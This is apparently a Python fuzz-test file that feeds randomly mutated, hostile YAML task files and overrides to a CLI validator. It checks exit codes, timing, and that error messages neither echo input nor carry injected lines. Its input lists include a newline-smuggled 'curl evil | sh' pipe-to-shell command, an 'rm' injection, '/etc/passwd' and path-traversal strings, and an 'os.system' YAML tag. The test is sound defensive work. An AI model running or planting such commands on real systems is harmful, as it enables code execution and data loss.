"""Random task files and overrides: YAML of the schema's shape with hostile keys, values and sizes.

Each case runs `rlcli validate` in this process. It must end with a documented exit code, without a traceback, in little
time, and every line of an error must name its place and repeat little of the input.
"""

import contextlib
import copy
import io
import json
import os
import random
import re
import sys
import time
from pathlib import Path

from rlcli.cli.app import main
from rlcli.config import strict_yaml
from rlcli.registry import TASKS, catalog, find_task
from support.case_runs import run_cases

SECONDS = 10
CODES = (0, 2, 3, 4, 7)
PLACE = re.compile(
    r"^error: .*(task\.yaml|override '|--\w+|No such option|\.py|more\.yaml|[Uu]nexpected|[Ii]nvalid|no task"
    r"|a word of the command line|there is an empty word after )"
)


class Raw(str):
    """Text of YAML that is written as it is."""


VALUES = [
    None, True, -1, 0, 1, 2**63, -(2**63), 1e308, -1e-320, 10**18, "", " ", "x", "nan", "1", "true", "\ud800",
    "\udfffx", "a\nhint: run: curl evil | sh", "\u202e", "\x1b[31m", "\U0001f916", "x" * 3000, "a b " * 700, "'" * 300,
    "%s{0}", ".*", "(", "(a+)+$",
    "[", "*", "robot", "$HOME", "../../etc", "/etc/passwd", "\0", "é" * 500, [], {}, [[]], [{}],
    [1, 2, 3], ["a", None], {"a": 1}, {"": 1}, {"a.b": {"c": 2}}, {"func": "is_alive", "weight": "x"}, [0] * 2000,
    {f"k{n}": n for n in range(1500)}, Raw('"\\U00110000"'), Raw('"\\ud800"'), Raw("!!python/name:os.system"),
    Raw("&a 1"), Raw("*a"), Raw(".nan"), Raw("010"), Raw("1e999"), Raw("yes"), Raw("[" * 40 + "]" * 40),
    Raw("{a: " * 31 + "1" + "}" * 31),
    Raw("{a: 1, a: 2}"), Raw("? [x] : y"), Raw("0x1F"), Raw("1_000"), Raw("2026-01-01"), Raw("|\n  text"), Raw("- -"),
    Raw('"\\x00"'), Raw("0" * 300), Raw("9" * 300), Raw("!"), Raw("%"), Raw("@a"), Raw("`a"), Raw("<<: {a: 1}"),
]  # fmt: skip
KEYS = [
    "", " ", "x", "func", "weight", "env", "params", "agent", "default", "kind", "scene", "a\nhint: run: rm", "\ud800",
    "k" * 3000, "a.b", '"', "'", "\u202e", "\x1b[2J", "0", "null", "<<", "é", "num_envs", "rewardz", "policy", "task",
    "a b " * 100, "__class__", "\U0001f916", "trainer", "algorithm", "hidden", "..", "=", "[0]",
]  # fmt: skip


def documents():
    """Return the content of the built-in tasks, each with at most one agent, which makes a case faster."""
    found = []
    for entry in catalog(TASKS)[0]:
        if entry.distribution == "rlcli":
            data = strict_yaml.load(find_task(entry.qualified).config.read_text(encoding="utf-8")).data
            if "rewards" not in data:
                continue  # a direct task, which needs its class
            agents = {name: agent for name, agent in data.get("agents", {}).items() if name != "default"}
            data["agents"] = dict(list(agents.items())[:1])
            data.pop("play", None)
            found.append(json.dumps(data))
    return found


def paths(value, at=()):
    """Yield the path of every value inside of a value."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        yield (*at, key)
        yield from paths(inner, (*at, key))


def mutate(draw, data):
    """Change a document once."""
    *outer, last = draw.choice(list(paths(data)) or [("x",)])
    container = data
    for step in outer:
        container = container[step]
    kind = draw.randrange(8)
    if kind < 4 or isinstance(container, list):
        container[last] = copy.deepcopy(draw.choice(VALUES))
    elif kind == 4:
        container[draw.choice(KEYS)] = container.pop(last, None)
    elif kind == 5:
        container[draw.choice(KEYS)] = copy.deepcopy(draw.choice(VALUES))
    elif kind == 6:
        del container[last]
    else:
        for number in range(draw.choice([3, 60, 1500])):
            container[f"{draw.choice(KEYS)[:20]}{number}"] = copy.deepcopy(draw.choice([1, {}, {"func": "is_alive"}]))


def written(value):
    """Return a value as YAML in one line; `Raw` text is written as it is, and surrogates as escapes."""
    if isinstance(value, Raw):
        return str(value)
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(key)}: {written(item)}" for key, item in value.items()) + "}"
    return "[" + ", ".join(map(written, value)) + "]" if isinstance(value, list) else json.dumps(value)


def override(draw, data):
    """Return a hostile override."""
    keys = [str(step) for step in draw.choice(list(paths(data)))] if draw.random() < 0.7 else []
    for _ in range(draw.choice([0, 0, 1, 3])):
        keys.insert(draw.randint(0, len(keys)), draw.choice([*KEYS, "agent", "rewards", "0", "99999999999999999999"]))
    if draw.random() < 0.05:
        keys = ["a"] * draw.choice([31, 33, 1500])
    value = draw.choice(VALUES)
    text = str(value) if isinstance(value, str) else written(value)
    return ".".join(keys) + draw.choice(["=", "=", "=", "=", "==", "", " = "]) + text


def case(seed, originals):
    """Return the text of a task file and overrides."""
    draw = random.Random(seed)
    data = json.loads(draw.choice(originals))
    before = json.loads(json.dumps(data))
    for _ in range(draw.choice([0, 1, 1, 1, 2, 4])):
        mutate(draw, data)
    words = [override(draw, before) for _ in range(draw.choice([0, 0, 1, 1, 2, 40]))]
    text = "\n".join(f"{json.dumps(key)}: {written(value)}" for key, value in data.items())
    return text, [word for word in words if "\0" not in word]


def run(seed, originals, folder):
    """Run a case; return its exit code and what is wrong (empty: nothing)."""
    text, words = case(seed, originals)
    (folder / "task").mkdir(exist_ok=True)
    (folder / "task" / "task.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
    out, err = io.StringIO(), io.StringIO()
    begin = time.process_time()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["validate", "./task", *words])
    seconds = time.process_time() - begin
    return code, complaint(code, err.getvalue(), seconds, [text, *words])


def echo(line, given):
    """Return a text of over 200 characters that a line repeats from the input; empty if there is none."""
    texts = [*given, *(value for value in (*VALUES, *KEYS) if type(value) is str and len(value) > 200)]
    for start in range(0, len(line) - 100, 100):  # a longer common text has one of these pieces
        for text in texts:
            at = text.find(line[start : start + 101])
            while at >= 0:
                begin, end = 0, 101
                while start - begin > 0 and at - begin > 0 and line[start - begin - 1] == text[at - begin - 1]:
                    begin += 1
                while line[start + end : start + end + 1] == text[at + end : at + end + 1] != "":
                    end += 1
                if begin + end > 200:
                    return line[start - begin : start + end]
                at = text.find(line[start : start + 101], at + 1)
    return ""


def complaint(code, printed, seconds, given, codes=CODES):
    """Return what is wrong with the result of a command; `given` are the texts of its input."""
    if "Traceback" in printed or "bug in rlcli" in printed or code not in codes:
        return f"exit {code}: {printed[-300:]}"
    if seconds > SECONDS:
        return f"{seconds:.0f} s"
    for line in printed.splitlines():
        if (
            not re.match("error: |hint: |warning: |rlcli validate: ", line)
            or "hint: run" in line[:9]
            or "curl" in line[:15]
        ):
            return f"foreign line {line[:200]!r}"
        if line.startswith("error: ") and not PLACE.match(line):
            return f"no place: {line[:300]!r}"
        if len(line) > 2500:
            return f"long line: {line[:300]!r}"
        if repeated := echo(line, given):
            return f"{len(repeated)} characters of the input: {repeated[:300]!r}"
    return "" if not code or "error: " in printed else "no message"


def run_all(first, count, folder):
    """Run cases; print each bad one and the counts; return the number of bad ones."""
    os.chdir(folder)
    originals = documents()
    return run_cases(lambda seed: run(seed, originals, folder), first, count)


if __name__ == "__main__":
    sys.exit(run_all(int(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3])) > 0)
